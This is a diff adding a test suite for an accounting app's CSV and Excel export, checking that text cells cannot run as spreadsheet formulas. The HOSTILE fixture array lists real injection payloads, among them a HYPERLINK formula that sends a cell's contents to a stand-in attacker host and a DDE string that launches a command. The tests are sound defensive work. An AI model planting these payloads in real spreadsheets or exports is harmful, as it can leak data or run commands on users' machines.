@@ -147,3 +147,107 @@ describe('Excel export', () => {
     expect((await readBack(await toXlsx({ ...nested, totals: null }))).rowCount).toBe(7);
   });
 });
+
+describe('formula injection (OWASP CSV injection): text from the books never runs in a spreadsheet', () => {
+  interface Row {
+    name: string;
+    qty: number;
+    amount: number;
+  }
+  const HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    '-2+3',
+    '@SUM(1,2)',
+    '\t=1+1',
+    '\r=1+1',
+    '  =1+1',
+    '\uFF1D1+1',
+  ];
+  const hostileSheet: ExportSheet<Row> = {
+    title: '=Title',
+    company: '@Company',
+    period: '+Period',
+    notes: ['-note'],
+    columns: [
+      { header: '=Particulars', kind: 'text', value: (r) => r.name },
+      { header: 'Qty', kind: 'number', value: (r) => r.qty },
+      { header: 'Amount', kind: 'money', value: (r) => r.amount },
+      { header: 'Balance', kind: 'drcr', value: (r) => r.amount },
+    ],
+    rows: HOSTILE.map((name, i) => ({ name, qty: -(i + 1), amount: -(i + 1) * 100_50 })),
+    totals: { label: 'Total' },
+  };
+
+  /** RFC 4180 fields of one CSV line (quoted fields unquoted). */
+  const fields = (line: string): string[] => {
+    const out: string[] = [];
+    let i = 0;
+    while (i <= line.length) {
+      if (line[i] === '"') {
+        let text = '';
+        i++;
+        for (;;) {
+          if (line[i] === '"' && line[i + 1] === '"') {
+            text += '"';
+            i += 2;
+          } else if (line[i] === '"') {
+            i++;
+            break;
+          } else text += line[i++];
+        }
+        out.push(text);
+        i++;
+      } else {
+        const end = line.indexOf(',', i);
+        out.push(line.slice(i, end < 0 ? line.length : end));
+        i = end < 0 ? line.length + 1 : end + 1;
+      }
+    }
+    return out;
+  };
+
+  it('prefixes every text cell that could start a formula with an apostrophe, titles and headers too', () => {
+    const csv = toCsv(hostileSheet).slice(1);
+    // Quoted line breaks belong to their cell; split records on CRLF outside quotes.
+    const records = csv.split(/\r\n(?=(?:[^"]*"[^"]*")*[^"]*$)/);
+    expect(records[0]).toBe("'@Company");
+    expect(records[1]).toBe("'=Title");
+    expect(records[2]).toBe("'+Period · -note");
+    expect(fields(records[4]!)[0]).toBe("'=Particulars");
+    const data = records.slice(5, 5 + HOSTILE.length).map(fields);
+    data.forEach((cells, i) => expect(cells[0]).toBe(`'${HOSTILE[i]}`));
+    // Every cell that starts with a trigger is an amount or a number the app computed (numeric).
+    for (const record of records) {
+      for (const cell of fields(record)) {
+        if (/^[=+\-@\t\r]/.test(cell)) expect(cell).toMatch(/^-\d+(\.\d+)?$/);
+      }
+    }
+  });
+
+  it('keeps negative amounts and quantities as plain numerals a spreadsheet reads as numbers', () => {
+    const csv = toCsv(hostileSheet).slice(1);
+    const first = csv.split('\r\n')[5]!;
+    expect(fields(first).slice(1)).toEqual(['-1', '-100.50', '-100.50', 'Cr']);
+    expect(csv.split('\r\n')).toContain('Total,,-3618.00,,');
+  });
+
+  it('quotes a cell with a semicolon (the list separator of many locales) so it cannot split into a formula', () => {
+    const csv = toCsv({ ...hostileSheet, rows: [{ name: 'a;=1+1', qty: 1, amount: 1 }] });
+    expect(csv).toContain('"a;=1+1",1,0.01');
+  });
+
+  it('writes the same names into .xlsx as plain strings, never as formulas', async () => {
+    const ws = await readBack(await toXlsx(hostileSheet));
+    expect(ws.getCell('A1').value).toBe('@Company');
+    expect(ws.getCell('A2').value).toBe('=Title');
+    HOSTILE.forEach((name, i) => {
+      const cell = ws.getRow(6 + i).getCell(1);
+      expect(cell.type).toBe(ExcelJS.ValueType.String);
+      expect(cell.formula).toBeUndefined();
+      // XML reads a carriage return back as a line feed; the text is otherwise what the books hold.
+      expect(cell.value).toBe(name.replace(/\r/g, '\n'));
+      expect(ws.getRow(6 + i).getCell(3).value).toBe(-(i + 1) * 100.5);
+    });
+  });
+});
